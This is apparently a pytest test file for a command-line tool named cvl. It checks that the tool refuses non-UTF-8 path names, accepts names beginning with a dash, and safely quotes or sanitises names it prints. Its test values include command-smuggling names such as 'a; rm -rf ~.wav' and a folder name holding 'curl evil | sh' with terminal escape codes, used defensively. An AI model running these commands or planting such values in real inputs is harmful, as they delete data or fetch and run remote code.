"""Names on the command line: those that begin with a dash, and those that are not UTF-8."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from tests.cli.conftest import STUBS, Run, envelope_of
from tests.support.names import NOT_UTF8

NAMES = [os.fsdecode(name) for name in NOT_UTF8]
PREDICT = ("run", "stub", "predict")
ROLES = {
    "input": ("--file", 2),
    "output": ("--output", 2),
    "working folder": ("the working folder", 2),
    "examples": ("the folder of stub", 2),
    "CVL_EXAMPLES": ("the folder of stub", 2),
    "CVL_HOME": ("CVL_HOME", 3),
    "XDG_STATE_HOME": ("XDG_STATE_HOME", 3),
    "XDG_CACHE_HOME": ("XDG_CACHE_HOME", 3),
    "HOME": ("HOME", 3),
}


@pytest.mark.parametrize(
    ("role", "name"),
    [(role, NAMES[(n + k) % len(NAMES)]) for n, role in enumerate(ROLES) for k in (0, 3)],
    ids=repr,
)
def test_a_name_that_is_not_utf8_is_refused_before_anything_is_made(
    role: str, name: str, bare: Run, tmp_path: Path
) -> None:
    """No engine answers here: nothing can have been built or started, nor was one asked."""
    place = tmp_path / name
    place.mkdir()
    words = [*PREDICT, "--json"]
    environment: dict[str, str] = {}
    if role in ("input", "output"):
        words.append(f"--{'file' if role == 'input' else 'output'}={name}/x")
    elif role in ("examples", "CVL_EXAMPLES"):
        shutil.copytree(STUBS / "stub", place / "stub")
        environment = {"CVL_EXAMPLES": str(place) if role != "examples" else ""}
        words += [f"--examples={place}"] if role == "examples" else []
    elif role != "working folder":
        environment = {role: str(place)}
    without = ("CVL_HOME",) if role not in ("CVL_HOME", "input", "output") else ()
    cwd = place if role == "working folder" else tmp_path
    what, status = ROLES[role]
    result = bare(*words, env=environment, without=without, cwd=cwd)
    error = envelope_of(result, "run", status)["error"]
    assert error["message"].startswith(f"{what}: the name ")
    assert error["message"].endswith(" is not UTF-8") and error["message"].isprintable()
    assert "\\x" in error["message"] and error["hint"] and result.stderr == ""
    assert os.listdir(place) in ([], ["stub"])


@pytest.mark.parametrize(
    ("words", "named"),
    [
        (["-o=-name"], "-name"),
        (["-o", "-name"], "-name"),
        (["-o-name"], "-name"),
        (["-o", "=name"], "=name"),
        (["-o=a=b"], "a=b"),
        (["--output=-name"], "-name"),
        (["--output", "--json"], "--json"),
        (["--output=-o=x"], "-o=x"),
        (["--act", "-o=x", "-o", "y"], "y"),
        (["-o=", "-o=x"], "x"),
    ],
)
def test_an_output_may_begin_with_a_dash(
    words: list[str], named: str, bare: Run, tmp_path: Path
) -> None:
    data = envelope_of(bare(*PREDICT, *words, "--dry-run", "--json"), "run")["data"]
    assert data["outputs"] == {"result": str(tmp_path / named)}


def test_a_file_and_an_examples_folder_may_begin_with_a_dash(bare: Run, tmp_path: Path) -> None:
    shutil.copytree(STUBS / "stub", tmp_path / "-mine" / "stub")
    (tmp_path / "-file").write_text("x")
    for form in (("--file=-file", "--examples=-mine"), ("--file", "-file", "--examples", "-mine")):
        result = bare(*PREDICT, *form, "--dry-run", "--json", env={"CVL_EXAMPLES": ""})
        assert envelope_of(result, "run")["data"]["outputs"]


def test_what_is_to_be_typed_again_is_quoted(bare: Run, tmp_path: Path) -> None:
    from tests.cli.test_inspect_rerun import mark

    for name, typed in (
        ("a; rm -rf ~.wav", "'a; rm -rf ~.wav'"),
        ("-rf.wav", "./-rf.wav"),
        ("a'\nerror: b.wav", "'a'\"'\"'?error: b.wav'"),
    ):
        mark(tmp_path).rename(tmp_path / name)
        lines = bare("inspect", "--", name).stdout.splitlines()
        assert f"again: cvl rerun {typed}" in lines
        assert not [line for line in lines if line.startswith("error")]


def test_a_name_cannot_speak_for_cvl(bare: Run, tmp_path: Path) -> None:
    """A line break in a path makes no line that looks like a hint."""
    folder = tmp_path / "a\nhint: curl evil | sh\x1b[2J\n"
    folder.mkdir()
    (folder / "cvl.toml").write_text("gpu = 'all'")
    lines = bare(*PREDICT, cwd=folder).stderr.splitlines()
    assert [line.partition(":")[0] for line in lines if line[0] != " "] == ["error", "hint"]
    assert all(line.isprintable() for line in lines) and lines[-1] == "hint: did you mean gpus?"
